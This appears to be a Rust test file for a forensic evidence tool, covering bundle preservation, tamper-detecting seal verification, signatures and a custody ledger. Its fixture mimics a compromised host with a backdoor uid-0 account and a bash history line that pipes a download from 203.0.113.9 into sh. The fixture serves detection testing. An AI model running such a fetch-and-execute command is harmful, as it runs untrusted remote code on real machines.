//! `stanch preserve`, `seal verify` and `--bundle` on a root directory.

use std::process::Command;

use crate::world::World;

fn world() -> World {
    let world = World::new();
    world.file("etc/passwd", "root:x:0:0::/root:/bin/sh\neve:x:0:0::/home/eve:/bin/sh\n");
    world.file("etc/hostname", "web01\n");
    world.file("usr/bin/true", "");
    world.file(
        "var/log/auth.log",
        "Mar  1 08:00:00 web01 sshd[1]: Accepted password for root from 203.0.113.9 port 4 ssh2\n",
    );
    world.file("root/.bash_history", "curl -s http://203.0.113.9/x | sh\n");
    world
}

fn collected(world: &World, more: &[&str]) -> String {
    let file = world.path("case.tar.gz").display().to_string();
    let run = world.run(&[&["preserve", "-o", &file], more].concat());
    assert_eq!(run.code, 0, "{run}");
    file
}

#[test]
fn a_bundle_is_made_verified_and_looked_at() {
    let world = world();
    let file = collected(&world, &[]);
    let made = world.run(&["preserve", "-o", &file]);
    assert_eq!(made.code, 2, "a name that is taken is refused: {made}");
    assert!(made.stderr.contains("could not be written"), "{made}");
    let holds = world.plain(&["seal", "verify", &file]);
    assert_eq!(holds.code, 0, "{holds}");
    assert!(holds.stdout.starts_with("It holds.\n"), "{holds}");
    let zh = world.plain(&["--lang", "zh", "seal", "verify", &file]);
    assert!(zh.stdout.starts_with("完好无损。\n"), "{zh}");
    let users = ["--bundle", &file, "query", "SELECT username FROM users WHERE uid = 0"];
    let users = world.plain(&users);
    assert_eq!(users.stdout, "username\nroot\neve\n", "{users}");
    let events = world.plain(&["--bundle", &file, "events", "/var/log/auth.log"]);
    assert!(events.stdout.contains("\"kind\":\"auth.success\""), "{events}");
    let detect = world.plain(&["--bundle", &file, "detect", "--json"]);
    assert!(detect.stdout.contains("\"host\": \"web01\""), "{detect}");
    // A bundle is only looked at.
    let refused = world.plain(&["--bundle", &file, "contain", "plan"]);
    assert_eq!(refused.code, 2, "{refused}");
}

#[test]
fn what_is_no_bundle_or_another_by_now_is_told_by_the_exit_code() {
    let world = world();
    let file = collected(&world, &[]);
    let bytes = std::fs::read(&file).unwrap();
    let mut turned = bytes.clone();
    let middle = turned.len() / 2;
    turned[middle] ^= 1;
    std::fs::write(&file, &turned).unwrap();
    let run = world.plain(&["seal", "verify", &file, "--json"]);
    assert_eq!(run.code, 1, "{run}");
    assert!(run.stdout.contains("\"holds\": false"), "{run}");
    std::fs::write(&file, &bytes[..middle]).unwrap();
    let run = world.plain(&["seal", "verify", &file]);
    assert_eq!(run.code, 3, "{run}");
    assert!(run.stdout.contains("The last whole item: "), "{run}");
    std::fs::write(&file, "nothing").unwrap();
    let run = world.plain(&["seal", "verify", &file]);
    assert_eq!(run.code, 2, "{run}");
    let run = world.plain(&["--bundle", &file, "detect"]);
    assert_eq!(run.code, 2, "{run}");
    assert!(run.stderr.contains("could not be opened as a bundle"), "{run}");
}

#[test]
fn a_signature_is_made_and_verified_and_a_note_is_kept() {
    let world = world();
    let key = world.path("key").display().to_string();
    assert_eq!(world.plain(&["baseline", "key", "-o", &key]).code, 0);
    let case = world.path("case").display().to_string();
    let note = world.plain(&["--case", &case, "ledger", "note", "disk sealed as 4711"]);
    assert_eq!(note.code, 0, "{note}");
    let file = collected(&world, &["--sign", &key, "--case", &case]);
    let public = format!("{key}.pub");
    let run = world.plain(&["seal", "verify", &file, "--public-key", &public]);
    assert_eq!(run.code, 0, "{run}");
    assert!(run.stdout.contains("evidence of web01"), "{run}");
    let other = world.path("other").display().to_string();
    world.plain(&["baseline", "key", "-o", &other]);
    let run = world.plain(&["seal", "verify", &file, "--public-key", &format!("{other}.pub")]);
    assert_eq!(run.code, 1, "{run}");
    let ledger = world.plain(&["--case", &case, "ledger", "show"]);
    assert!(ledger.stdout.contains("disk sealed as 4711"), "{ledger}");
    assert!(ledger.stdout.contains("preserve.sealed"), "{ledger}");
    let custody = Command::new("tar").args(["xzOf", &file, "meta/custody.jsonl"]).output().unwrap();
    assert!(String::from_utf8(custody.stdout).unwrap().contains("disk sealed as 4711"));
}

/// Returns the script that the handbook gives to who does not trust us.
fn script(page: &str) -> &str {
    page.split("```sh\n").nth(1).unwrap().split("```").next().unwrap()
}

#[test]
fn the_script_of_the_handbook_verifies_a_bundle_and_finds_what_is_another() {
    let en = include_str!("../../../../handbook/40-preserve/keeping-evidence.md");
    let zh = include_str!("../../../../handbook/40-preserve/keeping-evidence.zh.md");
    assert_eq!(script(en), script(zh));
    assert!(script(en).lines().count() <= 40);
    let world = world();
    let file = collected(&world, &[]);
    let verify = world.path("verify.sh");
    std::fs::write(&verify, script(en)).unwrap();
    let run = || {
        let out = Command::new("sh").arg(&verify).arg(&file).output().unwrap();
        let said = String::from_utf8_lossy(&out.stdout).into_owned();
        (out.status.code().unwrap(), said + &String::from_utf8_lossy(&out.stderr))
    };
    let (code, said) = run();
    assert_eq!(code, 0, "{said}");
    assert!(said.starts_with("holds: "), "{said}");
    let root = world.plain(&["seal", "verify", &file, "--json"]).stdout;
    let root = root.split("\"merkle_root\": \"").nth(1).unwrap().get(..64).unwrap().to_owned();
    assert!(said.contains(&root), "the same root: {said}");
    let mut bytes = std::fs::read(&file).unwrap();
    let middle = bytes.len() / 2;
    bytes[middle] ^= 1;
    std::fs::write(&file, &bytes).unwrap();
    let (code, said) = run();
    assert_eq!((code, said.as_str()), (1, "does not hold: a byte of the file\n"));
}
